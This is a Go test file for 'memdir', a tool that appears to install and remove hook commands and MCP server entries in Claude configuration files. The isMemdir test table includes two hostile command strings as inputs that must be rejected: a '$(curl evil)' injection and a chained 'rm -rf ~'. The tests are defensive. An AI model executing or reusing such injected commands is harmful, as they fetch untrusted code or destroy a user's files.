package claudeinstall

import (
	"strings"
	"testing"
)

func TestIsMemdir(t *testing.T) {
	for cmd, want := range map[string]bool{
		"/usr/local/bin/memdir hook Stop":                   true,
		"'/Users/a b/bin/memdir' hook Stop":                 true,
		`C:\tools\memdir.exe hook Stop`:                     true,
		"memdir hook Stop":                                  true,
		"notify-send done; /usr/local/bin/memdir hook Stop": false,
		"/home/u/bin/memdir-notify hook Stop":               true, // an absolute path, then exactly "hook Stop": Command's shape
		"/opt/memdir-1.2 hook Stop":                         true,
		"'/opt/my tools/md' hook Stop":                      true,
		`D:/bin/md.exe hook Stop`:                           true,
		"memdir-1.2 hook Stop":                              true,
		"mytool hook Stop":                                  false, // a bare name not memdir's: somebody's own tool
		"./memdir hook Stop":                                false,
		"hook Stop":                                         false,
		"/usr/local/bin/memdir hook Stop --now":             false,
		"/usr/local/bin/memdir --x hook Stop":               false,
		"/usr/local/bin/memdir hook  Stop":                  false,
		"FOO=1 /usr/local/bin/memdir hook Stop":             false,
		"sh -c 'memdir' hook Stop":                          false,
		"/usr/local/bin/memdir hook SessionStart":           false, // another event
		"$(curl evil) /usr/local/bin/memdir hook Stop":      false,
		"/usr/local/bin/memdir hook Stop && rm -rf ~":       false,
	} {
		if got := isMemdir(cmd, "Stop"); got != want {
			t.Errorf("isMemdir(%q) = %v, want %v", cmd, got, want)
		}
	}
}

func TestUninstall_KeepsWhatIsNotMemdirs(t *testing.T) {
	in := `{"hooks":{"PreCompact":["x",null,{"hooks":"odd"}],"Stop":[{"hooks":[{"type":"command","command":"notify-send done; /usr/local/bin/memdir hook Stop"},{"type":"command","command":"/opt/memdir hook Stop"}]}]}}`
	doc, err := Parse([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if !Uninstall(doc) {
		t.Fatal("memdir's own hook was not removed")
	}
	out := string(Encode(doc))
	for _, want := range []string{`"x"`, "null", `"odd"`, "notify-send done; /usr/local/bin/memdir hook Stop"} {
		if !strings.Contains(out, want) {
			t.Errorf("uninstall lost %s:\n%s", want, out)
		}
	}
	if strings.Contains(out, "/opt/memdir hook Stop") {
		t.Errorf("memdir's hook is still there:\n%s", out)
	}
	// Install next to a look-alike adds memdir's own instead of rewriting it.
	if changed, err := Install(doc, "/usr/bin/memdir"); err != nil || !changed {
		t.Fatalf("install: %v %v", changed, err)
	}
	if out := string(Encode(doc)); !strings.Contains(out, "notify-send done; /usr/local/bin/memdir hook Stop") || !strings.Contains(out, `"/usr/bin/memdir hook Stop"`) {
		t.Errorf("install rewrote a user's hook:\n%s", out)
	}
}

// TestInstall_AnyBinaryName: hooks written for a binary not named memdir
// are recognised by their shape, so a second install adds nothing and
// uninstall takes them out.
func TestInstall_AnyBinaryName(t *testing.T) {
	for _, bin := range []string{"/opt/memdir-1.2", "/home/u/bin/md", "/opt/my tools/memdir"} {
		doc := NewObject()
		if changed, err := Install(doc, bin); err != nil || !changed {
			t.Fatalf("%s: first install: %v %v", bin, changed, err)
		}
		once := string(Encode(doc))
		if changed, err := Install(doc, bin); err != nil || changed {
			t.Errorf("%s: second install changed the document (%v):\n%s", bin, err, Encode(doc))
		}
		if changed, err := Install(doc, "/usr/bin/memdir"); err != nil || !changed || strings.Count(string(Encode(doc)), "hook Stop") != 1 {
			t.Errorf("%s: install from a moved binary did not update the path in place (%v):\n%s", bin, err, Encode(doc))
		}
		if got := len(Installed(doc)); got != len(Handlers) {
			t.Errorf("%s: Installed found %d events, want %d:\n%s", bin, got, len(Handlers), once)
		}
		if !Uninstall(doc) || len(doc.Keys) != 0 {
			t.Errorf("%s: uninstall left:\n%s", bin, Encode(doc))
		}
	}
}

// TestInstallMCP_AnyBinaryName: memdir's MCP server registered from a
// binary not named memdir is still memdir's.
func TestInstallMCP_AnyBinaryName(t *testing.T) {
	doc := NewObject()
	if _, err := InstallMCP(doc, nil, "/opt/memdir-1.2"); err != nil {
		t.Fatal(err)
	}
	if changed, err := InstallMCP(doc, nil, "/usr/bin/memdir"); err != nil || !changed {
		t.Errorf("reinstall from another binary: %v %v", changed, err)
	}
	if !UninstallMCP(doc, nil) {
		t.Errorf("uninstall did not find it:\n%s", Encode(doc))
	}
	other, _ := Parse([]byte(`{"mcpServers":{"memdir":{"command":"/usr/bin/python3","args":["-m","memdir_server"]}}}`))
	if _, err := InstallMCP(other, nil, "/usr/bin/memdir"); err == nil {
		t.Error("an MCP server named memdir that runs something else was taken over")
	}
}

// TestUninstallMCP_LocalScopeLeavesNoTrace: the local scope registers the
// server under projects.<root> of ~/.claude.json; uninstalling takes out
// the objects install made for it alone, and keeps a project entry that
// holds anything else.
func TestUninstallMCP_LocalScopeLeavesNoTrace(t *testing.T) {
	at := []string{"projects", "/src/app"}
	for _, tc := range []struct{ before, after string }{
		{`{"theme":"dark"}`, `{"theme":"dark"}`},
		{`{}`, `{}`},
		{`{"projects":{"/src/other":{"allowedTools":[]}}}`, `{"projects":{"/src/other":{"allowedTools":[]}}}`},
		{`{"projects":{"/src/app":{"allowedTools":[]}}}`, `{"projects":{"/src/app":{"allowedTools":[]}}}`},
	} {
		doc, err := Parse([]byte(tc.before))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := InstallMCP(doc, at, "/usr/bin/memdir"); err != nil {
			t.Fatal(err)
		}
		if !UninstallMCP(doc, at) {
			t.Fatalf("%s: uninstall did not find it", tc.before)
		}
		want, _ := Parse([]byte(tc.after))
		if got := string(Encode(doc)); got != string(Encode(want)) {
			t.Errorf("%s: after install and uninstall:\n%s\nwant\n%s", tc.before, got, Encode(want))
		}
	}
}
